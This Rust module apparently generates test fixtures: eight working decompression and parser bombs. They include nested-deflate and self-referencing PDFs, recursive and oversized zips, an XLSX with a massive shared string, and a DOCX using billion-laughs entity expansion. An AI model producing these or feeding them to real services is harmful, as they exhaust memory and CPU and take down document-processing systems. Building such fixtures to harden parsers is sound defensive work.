//! Files that cost whoever looks into them far more than their length: five kinds, made here.

use std::io::{Cursor, Write};

use flate2::Compression;
use flate2::write::ZlibEncoder;
use zip::ZipWriter;
use zip::write::SimpleFileOptions;

/// A bomb and what it is called.
pub struct Bomb {
    /// File name.
    pub name: &'static str,
    /// The file.
    pub bytes: Vec<u8>,
}

/// Makes one.
type Make = fn() -> Vec<u8>;

/// All of them; none is larger than some megabytes.
pub fn all() -> Vec<Bomb> {
    let made: [(&str, Make); 8] = [
        ("flate.pdf", nested_flate),
        ("endless.pdf", endless),
        ("pages.pdf", pages),
        ("zeros.zip", zeros),
        ("recursive.zip", recursive),
        ("rows.xlsx", workbook),
        ("deep.docx", document),
        ("directory.zip", directory),
    ];
    made.into_iter().map(|(name, make)| Bomb { name, bytes: make() }).collect()
}

fn deflated(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

/// So many zeros, deflated: one piece after the other, each of which knows nothing of those before.
fn zeros_deflated(megabytes: usize) -> Vec<u8> {
    let (zeros, mut piece) = (vec![0; 1 << 20], Vec::with_capacity(64 << 10));
    let mut compress = flate2::Compress::new(Compression::best(), false);
    compress.compress_vec(&zeros, &mut piece, flate2::FlushCompress::Full).unwrap();
    let mut out = vec![0x78, 0xda];
    out.extend(piece.repeat(megabytes));
    // an empty last block, and Adler-32 of so many zeros
    out.extend([3, 0]);
    let sum = u32::try_from((megabytes << 20) % 65_521).unwrap() << 16 | 1;
    out.extend(sum.to_be_bytes());
    out
}

/// A PDF of these objects, the first of which is its catalogue.
fn pdf(objects: &[Vec<u8>]) -> Vec<u8> {
    let (mut out, mut places) = (b"%PDF-1.7\n".to_vec(), Vec::new());
    for (number, object) in (1..).zip(objects) {
        places.push(out.len());
        out.extend(format!("{number} 0 obj\n").bytes());
        out.extend(object);
        out.extend(b"\nendobj\n");
    }
    let start = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", objects.len() + 1).bytes());
    for place in places {
        out.extend(format!("{place:010} 00000 n \n").bytes());
    }
    let size = objects.len() + 1;
    out.extend(format!("trailer\n<</Size {size}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n").bytes());
    out
}

fn stream(dictionary: &str, bytes: &[u8]) -> Vec<u8> {
    let mut out = format!("<<{dictionary}/Length {}>>\nstream\n", bytes.len()).into_bytes();
    out.extend(bytes);
    out.extend(b"\nendstream");
    out
}

fn page_with(contents: Vec<u8>) -> Vec<u8> {
    pdf(&[
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>".to_vec(),
        contents,
    ])
}

/// 8 GiB of nothing behind two filters.
pub fn nested_flate() -> Vec<u8> {
    let inner = deflated(&zeros_deflated(8 << 10));
    page_with(stream("/Filter[/FlateDecode/FlateDecode]", &inner))
}

/// Forms that draw each other, so that there is no end to it.
fn endless() -> Vec<u8> {
    let mut objects = vec![
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>".to_vec(),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>>>"
            .to_vec(),
        stream("", "/F Do ".repeat(64).as_bytes()),
    ];
    for next in 6..18 {
        let resources =
            format!("/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F {next} 0 R>>>>");
        objects.push(stream(&resources, "/F Do ".repeat(64).as_bytes()));
    }
    objects.push(stream("/Type/XObject/Subtype/Form/BBox[0 0 9 9]", b"q Q"));
    pdf(&objects)
}

/// More pages than anybody reads, all of them drawn by one stream.
fn pages() -> Vec<u8> {
    let count = 20_000;
    let kids = (4..4 + count).map(|number| format!("{number} 0 R")).collect::<Vec<_>>().join(" ");
    let mut objects = vec![
        b"<</Type/Catalog/Pages 2 0 R>>".to_vec(),
        format!("<</Type/Pages/Kids[{kids}]/Count {count}>>").into_bytes(),
        stream("", "q 0 0 1 1 re f Q ".repeat(200).as_bytes()),
    ];
    let page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 3 0 R>>".to_vec();
    objects.extend(std::iter::repeat_n(page, count));
    pdf(&objects)
}

fn zip_of(files: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in files {
        zip.start_file(*name, SimpleFileOptions::default()).unwrap();
        zip.write_all(bytes).unwrap();
    }
    zip.finish().unwrap().into_inner()
}

fn zip_of_zeros(name: &str, head: &[u8], megabytes: usize) -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    zip.start_file(name, SimpleFileOptions::default()).unwrap();
    zip.write_all(head).unwrap();
    let piece = vec![0; 1 << 20];
    (0..megabytes).for_each(|_| zip.write_all(&piece).unwrap());
    zip.finish().unwrap().into_inner()
}

/// Hundreds of megabytes of zeros.
pub fn zeros() -> Vec<u8> {
    zip_of_zeros("evidence/zeros.txt", b"", 400)
}

/// A zip of zips of zips.
fn recursive() -> Vec<u8> {
    let mut inner = zip_of_zeros("zeros.txt", b"", 64);
    for _ in 0..4 {
        let names: Vec<String> = (0..16).map(|at| format!("{at}.zip")).collect();
        let files: Vec<(&str, Vec<u8>)> = names.iter().map(|name| (name.as_str(), inner.clone())).collect();
        inner = zip_of(&files);
    }
    inner
}

/// A workbook with a string of hundreds of megabytes, and a sheet that points at it a million times.
fn workbook() -> Vec<u8> {
    let mut zip = ZipWriter::new(Cursor::new(Vec::new()));
    let options = SimpleFileOptions::default();
    zip.start_file("xl/sharedStrings.xml", options).unwrap();
    zip.write_all(b"<sst><si><t>").unwrap();
    let numbers = "900101-1234568 ".repeat(1 << 16);
    (0..60).for_each(|_| zip.write_all(numbers.as_bytes()).unwrap());
    zip.write_all(b"</t></si></sst>").unwrap();
    zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
    zip.write_all(b"<worksheet><sheetData>").unwrap();
    let row = "<row><c t=\"s\"><v>0</v></c></row>".repeat(1000);
    (0..1000).for_each(|_| zip.write_all(row.as_bytes()).unwrap());
    zip.finish().unwrap().into_inner()
}

/// A document with entities of entities, and elements in elements.
fn document() -> Vec<u8> {
    let mut text = String::from("<?xml version=\"1.0\"?><!DOCTYPE w [<!ENTITY a0 \"900101-1234568\">");
    for at in 1..30 {
        let before = format!("&a{};", at - 1).repeat(10);
        text.extend(["<!ENTITY a", &at.to_string(), " \"", &before, "\">"]);
    }
    text += "]><w:document><w:p>&a29; 900101-1234568 ";
    text += &"<w:t>".repeat(4_000_000);
    zip_of(&[("word/document.xml", text.into_bytes())])
}

/// A directory of 60 MB, of entries that all are the same empty file.
pub fn directory() -> Vec<u8> {
    let local = zip_of(&[("a", Vec::new())]);
    let at = |signature: &[u8]| local.windows(4).position(|window| window == signature).unwrap();
    let (header, end) = (at(b"PK\x01\x02"), at(b"PK\x05\x06"));
    let name = [b'a'; 900];
    let mut entry = local[header..header + 46].to_vec();
    entry[28..30].copy_from_slice(&900_u16.to_le_bytes());
    entry.extend(name);
    let entries = 65_534_u16;
    let mut out = local[..header].to_vec();
    (0..entries).for_each(|_| out.extend(&entry));
    let bytes = u32::try_from(entry.len() * usize::from(entries)).unwrap();
    let mut last = local[end..].to_vec();
    last[8..10].copy_from_slice(&entries.to_le_bytes());
    last[10..12].copy_from_slice(&entries.to_le_bytes());
    last[12..16].copy_from_slice(&bytes.to_le_bytes());
    out.extend(last);
    out
}
